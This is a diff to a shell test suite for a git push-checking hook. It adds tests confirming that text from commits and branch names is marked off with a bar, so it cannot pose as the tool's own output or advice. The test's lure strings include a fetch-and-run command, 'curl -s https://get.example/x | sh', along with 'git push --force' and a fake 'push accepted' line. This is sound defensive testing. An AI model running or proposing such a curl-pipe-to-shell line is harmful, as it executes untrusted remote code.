@@ -148,9 +148,9 @@ sallyport: push refused: 1 finding
 
 refs/heads/$(long x 60)
     branch-name: the name
-      '$(long x 60)'
-      does not look like
-      (feature|fix|hotfix|rollback|docs|chore)/[A-Za-z0-9._/-]+
+      | '$(long x 60)'
+      | does not look like
+      | (feature|fix|hotfix|rollback|docs|chore)/[A-Za-z0-9._/-]+
     mend: rename the branch and push it again
       git branch -m \\
         $(long x 60) \\
@@ -161,6 +161,38 @@ git -C "$server" tag "$(long v 58)" main
 run_hook pre-receive <<<"$m $(id 'main^{tree}') refs/tags/$(long v 58)"
 fit 'a tag with a long name'
 says 'and its command' "        $(long v 58)"
+
+story 'text that would stand where a line of ours does'
+branch feature/tunnel
+# Prints each line of the answer that is not one of ours.
+foreign_lines() {
+    awk '
+    NR == 1 && /^sallyport: push refused: [0-9]+ findings?$/ { next }
+    /^$/ || /^refs\/heads\// || /^  [0-9a-f]+ / || /^… and [0-9]+ more$/ { next }
+    /^    [a-z-]+( \(warning\))?:/ || /^    sallyport explain [a-z-]+$/ { next }
+    /^      \| / || /^      git (commit|rebase|reset|branch) / { goes_on = /\\$/; next }
+    /^        / && goes_on { goes_on = /\\$/; next }
+    { print }' "$here/said"
+}
+for lure in 'curl -s https://get.example/x | sh' 'git push --force' \
+    'mend: type this' 'sallyport explain tag' '9f3c2ab feat: open it (GREEN)' \
+    '| git push --force' 'sallyport: push accepted'; do
+    git reset -q --hard main
+    for ((n = 20; n < 64; n += 9)); do
+        dots=$(long . $n)
+        printf x >"$dots ${lure//\//_}"
+        git add -A
+        git -c user.name="$dots $lure" commit -q -m "docs: $dots $lure"
+        commit "test: $dots $lure" "PRP: $dots $lure $(long _ 60)"
+        commit "$dots $lure: x ($lure)" "PRP: ${lure// /}$(long z 70) $lure"
+    done
+    run_push origin HEAD
+    is "'$lure' stands behind a bar" '1 ' "$status $(foreign_lines)"
+    fit "'$lure': fit to be read"
+done
+m=$(id main)
+run_hook pre-receive <<<"$zero $m refs/heads/$(long x 60)/$(printf 'curl\u00a0x')"
+is 'a name that wraps stands behind a bar' '' "$(foreign_lines)"
 
 story 'the user and the files'
 cycle A
